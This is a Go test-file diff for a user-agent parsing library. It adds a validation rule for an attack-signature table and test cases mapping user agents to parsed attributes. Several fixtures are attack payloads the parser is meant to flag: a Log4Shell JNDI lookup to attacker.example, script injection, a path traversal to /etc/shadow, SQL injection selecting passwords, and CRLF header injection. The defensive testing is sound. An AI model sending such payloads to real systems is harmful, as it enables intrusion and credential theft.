@@ -1,6 +1,7 @@
 package uaparse
 
 import (
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -30,8 +31,16 @@ func TestTablesWellFormed(t *testing.T) {
 		seen := map[string]bool{}
 		for _, r := range rows {
 			key := r[0]
-			if e.Name() == "cpu.tsv" {
+			switch e.Name() {
+			case "cpu.tsv", "system_releases.tsv":
 				key = r[0] + " " + r[1]
+			case "attack_signatures.tsv":
+				key = r[0] + " " + r[1]
+				// The loader matches fragments on the lower case user
+				// agent: an upper case fragment would never match.
+				if f, err := strconv.Unquote(r[1]); err != nil || f == "" || f != strings.ToLower(f) {
+					t.Errorf("tables/attack_signatures.tsv: %s is not a quoted, non-empty, lower case fragment", r[1])
+				}
 			}
 			if seen[key] {
 				t.Errorf("tables/%s: %q is listed twice", e.Name(), key)
@@ -95,6 +104,32 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:89.0) Gecko/20100101 Firefox/89.0", "OperatingSystemName", "Ubuntu"},
 		// cpu.tsv
 		{"Mozilla/5.0 (X11; Linux aarch64; rv:89.0) Gecko/20100101 Firefox/89.0", "DeviceCpu", "AArch64"},
+		// app_spellings.tsv (Spark's desktop app, an Electron shell)
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) SparkMail/3.20.1 Chrome/120.0.6099.109 Safari/537.36", "AgentName", "Spark mail"},
+		// robot_device_names.tsv
+		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "DeviceName", "Microsoft BingBot"},
+		// system_releases.tsv (an Ubuntu code name, a Windows NT kernel version)
+		{"Mozilla/5.0 (X11; U; Linux i686; de; rv:1.9.0.5) Gecko/2008121711 Ubuntu/intrepid Firefox/3.0.5", "OperatingSystemVersion", "8.10"},
+		{"Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:52.0) Gecko/20100101 Firefox/52.0", "OperatingSystemNameVersion", "Windows 7"},
+		// fediverse_servers.tsv (a Mastodon server fetching through its HTTP library)
+		{"http.rb/5.1.1 (Mastodon/4.2.1; +https://social.example.org/)", "AgentName", "Mastodon"},
+		// unix_desktops.tsv
+		{"Mozilla/5.0 (X11; SunOS sun4u; rv:52.0) Gecko/20100101 Firefox/52.0", "DeviceBrand", "SUN Microsystems"},
+		// robot_engine_names.tsv (Meta's link preview crawler, its documented user agent)
+		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "LayoutEngineName", "Facebook ExternalHit"},
+		// browsers.tsv (a browser built on Chromium: its token comes before Chrome's)
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Vivaldi/6.5.3206.48", "AgentName", "Vivaldi"},
+		// set_top_box_makers.tsv
+		{"Mozilla/5.0 (X11; Linux armv7l; Humax HGA12R) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.106 Safari/537.36", "DeviceBrand", "Humax"},
+		// domain_brands.tsv (a robot whose contact is on Microsoft's link shortener)
+		{"Mozilla/5.0 (compatible; LinkCheck/2.1; +https://aka.ms/linkcheck)", "DeviceBrand", "Microsoft"},
+		// attack_signatures.tsv, one fragment of each family
+		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
+		{"curl/8.0 ../../../../etc/shadow", "HackerAttackVector", "Path Traversal"},
+		{"Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0.0.0' UNION SELECT password FROM users--", "HackerAttackVector", "Code Injection"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)%0d%0aX-Forwarded-For: 127.0.0.1", "DeviceClass", "Hacker"},
+		{"Mozlila/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36", "DeviceClass", "Hacker"},
 	} {
 		if got := a.Analyze(c.ua).Get(c.attr); got != c.want {
 			t.Errorf("%s of %q = %q, want %q", c.attr, c.ua, got, c.want)
